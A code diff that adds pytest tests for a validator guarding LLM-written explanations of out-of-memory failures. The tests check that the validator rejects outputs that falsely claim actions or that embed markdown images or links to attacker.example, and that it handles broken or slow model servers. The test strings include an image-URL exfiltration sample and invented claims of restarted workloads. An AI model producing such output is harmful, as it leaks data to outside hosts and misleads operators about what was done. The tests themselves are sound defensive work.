@@ -138,3 +138,36 @@ def test_api_with_an_llm_adds_only_a_validated_explanation():
                        use_kube=False, llm=liar)
     assert res.category == "OOM_KILLED"
     assert res.explanation.source == "deterministic" and res.explanation.text == res.report
+
+
+@pytest.mark.parametrize("said,why", [
+    ("OOM_KILLED: memory ran out. I have restarted your workload and deleted the failed pod.", "action"),
+    ("OOM_KILLED. The memory limit has been raised for you and the job was resubmitted.", "action"),
+    ("OOM_KILLED ![status](http://attacker.example/?q=OOMKilled)", "image"),
+    ("OOM_KILLED, see [the report](http://attacker.example/r).", "link"),
+])
+def test_explanations_that_claim_actions_or_link_out_fall_back(oom, said, why):
+    ex = explain(oom, FakeListChatModel(responses=[said]))
+    assert ex.source == "deterministic" and ex.text == oom.report
+    assert any(why in r for r in ex.rejected_reasons), ex.rejected_reasons
+
+
+@pytest.mark.parametrize("stream", [False, True], ids=["json", "sse"])
+@pytest.mark.parametrize("opts,why", [
+    ({"persona": "null"}, "empty"), ({"persona": "huge"}, ""), ({"delay": 30}, "did not answer in time"),
+    ({"drip": 1.0}, "did not answer in time"), ({"persona": "claims"}, "action"),
+], ids=["null", "5MB", "late", "drip", "claims"])
+def test_explain_through_a_broken_or_lying_http_model_falls_back_within_its_bound(oom, opts, why, stream):
+    import time
+
+    from agent.llm_bounds import ModelBounds, openai_model
+    from evals.llm_standin import Options, running
+
+    with running(Options(**opts)) as st:
+        model = openai_model("standin", st.url, "not-needed", ModelBounds(total=1.5, connect=1, read=1),
+                             streaming=stream)
+        t0 = time.monotonic()
+        ex = explain(oom, model)
+        assert time.monotonic() - t0 < 1.5 + 5.0  # the model alone: 30 s, or a drip for ever
+    assert ex.source == "deterministic" and ex.text == oom.report
+    assert any(why in r for r in ex.rejected_reasons), ex.rejected_reasons
